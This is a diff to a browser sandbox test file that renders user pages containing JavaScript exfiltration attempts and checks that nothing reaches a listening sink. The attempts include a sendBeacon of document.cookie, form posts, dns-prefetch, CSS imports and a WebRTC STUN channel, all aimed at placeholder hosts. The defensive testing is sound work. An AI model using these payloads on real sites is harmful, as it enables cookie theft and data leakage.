@@ -13,7 +13,7 @@ from typing import TYPE_CHECKING
 import pytest
 from stack.ports import HOST
 from tests.harness.sink import Sink, listening_sink
-from tests.harness.specimens import Specimen, render_specimen, specimens
+from tests.harness.specimens import Specimen, drawn, specimens
 from tests.harness.waiting import eventually
 
 from belvedere.rendering.landlock import landlock_abi
@@ -40,11 +40,15 @@ for (const act of [
   () => { navigator.sendBeacon("AWAY?" + document.cookie) },
   () => { const f = document.createElement("form"); f.action = "AWAY"; f.method = "post";
           document.body.append(f); f.submit() },
-  () => { const p = new RTCPeerConnection({iceServers: [{urls: "stun:SINK"}]}); p.createDataChannel("x");
-          p.createOffer().then(o => p.setLocalDescription(o)) },
   () => { const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "AWAY"; document.head.append(l) },
   () => { alert(1) },
 ]) { try { act() } catch (error) {} }
+"""
+# In frames inside a frame this makes Chromium 156 end the tab (nothing gets out): tried where the page is a user's.
+WEBRTC = """
+const peer = new RTCPeerConnection({iceServers: [{urls: "stun:SINK"}]});
+peer.createDataChannel("x");
+peer.createOffer().then(offer => peer.setLocalDescription(offer));
 """
 STYLES = (
     "<style>@import 'AWAY.css';@font-face{font-family:x;src:url(AWAY.woff)}"
@@ -117,7 +121,7 @@ def archive() -> bytes:
 
 
 FORMS: dict[str, tuple[str, Callable[[], str | bytes]]] = {
-    "users_page": ("report.html", lambda: PAGE),
+    "users_page": ("report.html", lambda: f"{PAGE}<script>{WEBRTC}</script>"),
     "page_in_page": ("mlpipeline-ui-metadata.json", metadata),
     "notebook": ("a.ipynb", notebook),
     "archive": ("a.zip", archive),
@@ -150,8 +154,7 @@ def context(browser: Browser, own: OwnGallery) -> Iterator[BrowserContext]:
 
 def hang(own: OwnGallery, specimen: Specimen, folder: Path) -> str:
     """Render a specimen as the main loop does, and hang it."""
-    found = render_specimen(specimen, folder)
-    return own.hang_rendering(f"forms/{specimen.name}/{specimen.key}", found.result.rendering, specimen.content)
+    return own.hang_rendering(f"forms/{specimen.name}/{specimen.key}", drawn(specimen, folder), specimen.content)
 
 
 def walk_through(page: Page) -> None:
